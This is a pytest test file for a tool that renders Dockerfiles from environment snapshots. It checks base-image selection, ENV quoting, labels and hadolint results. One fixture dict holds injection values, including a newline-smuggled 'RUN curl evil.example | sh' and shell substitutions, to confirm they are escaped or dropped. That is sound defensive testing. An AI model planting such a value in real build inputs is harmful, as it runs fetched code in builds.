"""From a snapshot to a Dockerfile: the base image chosen from the facts, ENV quoting, hadolint."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from envcap.emit.dockerfile import docker_quote, render_dockerfile, render_dockerignore
from envcap.emit.plan import make_plan
from envcap.lock import CudaComponent, CudaStack, Gpu, GpuDevice, OsInfo, PythonEnv, Snapshot, TorchBuild

HADOLINT = Path(sys.executable).parent / "hadolint"
NVML_DATA = Path(__file__).resolve().parents[1] / "data" / "nvml"


def a100() -> Gpu:
    """The recorded A100 host (tests/data/nvml) as the probe would describe it."""
    data = json.loads((NVML_DATA / "a100-sxm4-80gb.json").read_text("utf-8"))
    device = data["devices"][0]
    return Gpu(status="ok", binding="pynvml", driver_version=data["driver_version"], cuda_driver_version="11.4",
               devices=(GpuDevice(index=0, name=device["name"], compute_capability="8.0",
                                  memory_total_bytes=device["memory_total_bytes"], mig_mode="disabled",
                                  ecc_mode="enabled", uuid_sha256="0" * 16),))


def cpu_snapshot(**changes: object) -> Snapshot:
    base = Snapshot(python=PythonEnv(version="3.11.7"), captured_at="2026-01-01T00:00:00Z",
                    os=OsInfo(id="debian", version_id="12", codename="bookworm"),
                    gpu=Gpu(status="no-nvml", reason="NVML could not start"), env={"OMP_NUM_THREADS": "4"})
    return replace(base, **changes).with_digest()  # type: ignore[arg-type]


def pip_cuda_snapshot() -> Snapshot:
    cuda = CudaStack(components={"cuda_runtime": CudaComponent("12.1.105", "pip", "nvidia-cuda-runtime-cu12"),
                                 "cudnn": CudaComponent("8.9.2.26", "pip", "nvidia-cudnn-cu12")},
                     torch=TorchBuild(version="2.3.0+cu121", cuda="12.1"))
    return cpu_snapshot(gpu=a100(), cuda=cuda)


def system_cuda_snapshot(runtime: str = "12.4.127") -> Snapshot:
    """CUDA from the system toolkit; the probe reads the runtime's version from libcudart.so.X.Y.Z."""
    cuda = CudaStack(components={"cuda_runtime": CudaComponent(runtime, "system", "/usr/local/cuda"),
                                 "cudnn": CudaComponent("9.1.0", "system", "/usr/include/cudnn_version.h")},
                     toolkit_root="/usr/local/cuda-12.4")
    return cpu_snapshot(gpu=a100(), cuda=cuda, os=OsInfo(id="ubuntu", version_id="22.04", codename="jammy"))


def from_lines(dockerfile: str) -> list[str]:
    return [line for line in dockerfile.splitlines() if line.startswith("FROM ")]


# ------------------------------------------------------------------------------- base image

def test_cpu_snapshot_uses_the_official_python_slim_image() -> None:
    plan = make_plan(cpu_snapshot())
    assert plan.family == "python-slim"
    assert plan.base_image == "python:3.11.7-slim-bookworm"
    assert from_lines(render_dockerfile(plan))[0] == "FROM python:3.11.7-slim-bookworm AS runtime"


@pytest.mark.parametrize("os_info, image", [
    (OsInfo(id="debian", codename="bullseye"), "python:3.11.7-slim-bullseye"),
    (OsInfo(id="debian", codename="trixie"), "python:3.11.7-slim-trixie"),
    (OsInfo(id="ubuntu", codename="jammy"), "python:3.11.7-slim-bookworm"),  # no Ubuntu python image: Debian's
    (None, "python:3.11.7-slim-bookworm"),
])
def test_debian_codename_follows_the_host(os_info: OsInfo | None, image: str) -> None:
    assert make_plan(cpu_snapshot(os=os_info)).base_image == image


def test_python_version_is_exact() -> None:
    snap = cpu_snapshot(python=PythonEnv(version="3.12.4"))
    assert make_plan(snap).base_image == "python:3.12.4-slim-bookworm"


def test_gpu_with_cuda_from_pip_wheels_uses_python_slim_and_the_hosts_driver() -> None:
    plan = make_plan(pip_cuda_snapshot())
    assert plan.family == "python-slim"
    assert plan.base_image == "python:3.11.7-slim-bookworm"
    assert "driver from the host" in plan.why
    assert from_lines(render_dockerfile(plan)) == ["FROM python:3.11.7-slim-bookworm AS runtime",
                                                   "FROM runtime AS builder", "FROM runtime"]


def test_gpu_with_system_cuda_uses_nvidia_cuda_and_the_exact_python() -> None:
    plan = make_plan(system_cuda_snapshot())
    assert plan.family == "cuda"
    assert re.fullmatch(r"nvidia/cuda:12\.4\.\d+-cudnn-runtime-ubuntu22\.04", plan.base_image), plan.base_image
    assert plan.python_image == "python:3.11.7-slim-bullseye"  # glibc not newer than Ubuntu 22.04's
    dockerfile = render_dockerfile(plan)
    assert from_lines(dockerfile)[:2] == ["FROM python:3.11.7-slim-bullseye AS python",
                                          f"FROM {plan.base_image} AS runtime"]
    assert "COPY --from=python /usr/local/ /usr/local/" in dockerfile


def test_newer_system_cuda_moves_to_ubuntu_24_04() -> None:
    plan = make_plan(system_cuda_snapshot("12.6.77"))
    assert plan.base_image.endswith("-cudnn-runtime-ubuntu24.04")
    assert plan.python_image == "python:3.11.7-slim-bookworm"


def test_system_cuda_image_tag_is_a_toolkit_release() -> None:
    plan = make_plan(system_cuda_snapshot("12.4.127"))
    version = plan.base_image.split(":")[1].split("-")[0]
    assert re.fullmatch(r"\d+\.\d+\.\d", version), plan.base_image


def test_system_cuda_tag_uses_the_toolkit_release_when_known() -> None:
    snap = system_cuda_snapshot("12.4.127")
    assert snap.cuda is not None
    snap = replace(snap, cuda=replace(snap.cuda, toolkit_version="12.4.1")).with_digest()
    assert make_plan(snap).base_image == "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04"


def test_system_cuda_without_a_gpu_stays_on_python_slim() -> None:
    snap = replace(system_cuda_snapshot(), gpu=Gpu(status="no-gpu")).with_digest()
    assert make_plan(snap).family == "python-slim"


def test_base_image_override() -> None:
    plan = make_plan(system_cuda_snapshot(), base_image="registry.example/team/base:2026.01")
    assert plan.base_image == "registry.example/team/base:2026.01"
    assert plan.labels["io.envcap.base-image"] == "registry.example/team/base:2026.01"
    assert "--base-image" in plan.why
    assert from_lines(render_dockerfile(plan))[0] == "FROM registry.example/team/base:2026.01 AS runtime"


def test_base_image_override_through_the_cli(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    from envcap.cli import main

    result = cli.invoke(main, ["snapshot", "--offline", "--out", str(tmp_path / "o"),
                               "--base-image", "registry.example/base:1"])
    assert result.exit_code == 0, result.stderr
    dockerfile = (tmp_path / "o" / "Dockerfile").read_text()
    assert "FROM registry.example/base:1 AS runtime" in dockerfile


# ---------------------------------------------------------------------------- ENV and labels

NASTY = {
    "XLA_FLAGS": '--xla_dump_to="/tmp/a b" --flag=$HOME',
    "OMP_NUM_THREADS": "4",
    "TORCH_LOGS": "+dynamo,guards",
    "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True\nRUN curl evil.example | sh",
    "NCCL_DEBUG_SUBSYS": "INIT,\\ENV",  # (a value ending in a backslash trips hadolint's parser, not Docker's)
    "MKL_VERBOSE": "it's ${MKL} `uname`",
}


def test_env_values_cannot_inject_instructions() -> None:
    kept = make_plan(cpu_snapshot(env=NASTY)).env
    # A line break cannot be written on a Dockerfile line: that value stays out of the image.
    assert "PYTORCH_CUDA_ALLOC_CONF" not in kept and set(kept) == set(NASTY) - {"PYTORCH_CUDA_ALLOC_CONF"}
    benign = render_dockerfile(make_plan(cpu_snapshot(env={k: "x" for k in kept})))
    nasty = render_dockerfile(make_plan(cpu_snapshot(env=NASTY)))

    def instructions(text: str) -> list[str]:
        return [line.split()[0] for line in text.splitlines() if re.match(r"^[A-Z]+ ", line)]

    assert instructions(nasty) == instructions(benign)
    assert len(nasty.splitlines()) == len(benign.splitlines())
    assert "RUN curl" not in "\n".join(line for line in nasty.splitlines() if line.startswith("RUN"))
    assert not re.search(r"(?<!\\)\$", nasty.split("# The numerics-relevant")[1].split("LABEL")[0])
    assert "\\$HOME" in nasty and "\\${MKL}" in nasty


def test_host_only_and_redacted_variables_stay_out_of_the_image() -> None:
    env = {"CUDA_VISIBLE_DEVICES": "0", "OMP_NUM_THREADS": "2", "TORCH_HUB_TOKEN": "<redacted>",
           "TRITON_CACHE_URL": "https://<redacted>@cache.example/x"}
    plan = make_plan(cpu_snapshot(env=env))
    assert plan.env == {"OMP_NUM_THREADS": "2"}


def test_labels_name_the_lock_digest() -> None:
    snap = cpu_snapshot()
    dockerfile = render_dockerfile(make_plan(snap))
    assert f'"io.envcap.lock-digest"="{snap.digest}"' in dockerfile
    assert '"org.opencontainers.image.title"=' in dockerfile


def test_docker_quote_escapes_what_a_dockerfile_word_treats_specially() -> None:
    assert docker_quote('a"b') == '"a\\"b"'
    assert docker_quote("a$b") == '"a\\$b"'
    assert docker_quote("a\\b") == '"a\\\\b"'
    assert "\n" not in docker_quote("a\nb")


# -------------------------------------------------------------------------------- hadolint

def hadolint(dockerfile: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(HADOLINT), "--no-color", "--failure-threshold", "warning", "-"], input=dockerfile,
                          capture_output=True, text=True, check=False)


@pytest.mark.parametrize("case", ["cpu", "gpu-pip", "gpu-system", "nasty-env", "vendored", "online", "override"])
def test_hadolint_reports_nothing_above_info(case: str) -> None:
    plan = {
        "cpu": lambda: make_plan(cpu_snapshot()),
        "gpu-pip": lambda: make_plan(pip_cuda_snapshot()),
        "gpu-system": lambda: make_plan(system_cuda_snapshot()),
        "nasty-env": lambda: make_plan(cpu_snapshot(env=NASTY)),
        "vendored": lambda: make_plan(cpu_snapshot(), has_vendored=True),
        "online": lambda: make_plan(cpu_snapshot(), hermetic=False, has_vendored=True),
        "override": lambda: make_plan(cpu_snapshot(), base_image="registry.example/base:1"),
    }[case]()
    done = hadolint(render_dockerfile(plan))
    assert done.returncode == 0, done.stdout + done.stderr
    for line in done.stdout.splitlines():
        assert " info: " in line or not line.strip(), line


def test_hadolint_is_really_checking() -> None:
    """The gate above means something: a classic mistake is reported at warning level."""
    done = hadolint("FROM debian:bookworm\nRUN apt-get install curl\n")
    assert done.returncode != 0 and "DL3008" in done.stdout


def test_dockerignore_admits_only_what_the_dockerfile_copies() -> None:
    lines = [line for line in render_dockerignore().splitlines() if line and not line.startswith("#")]
    assert lines[0] == "*"
    assert set(lines[1:]) == {"!requirements.lock", "!wheels/"}


def test_dockerfile_copies_only_what_dockerignore_admits() -> None:
    dockerfile = render_dockerfile(make_plan(cpu_snapshot(), has_vendored=True))
    sources = {line.split()[1] for line in dockerfile.splitlines()
               if line.startswith("COPY ") and "--from=" not in line}
    assert sources <= {"requirements.lock", "wheels/", "wheels/vendored/"}
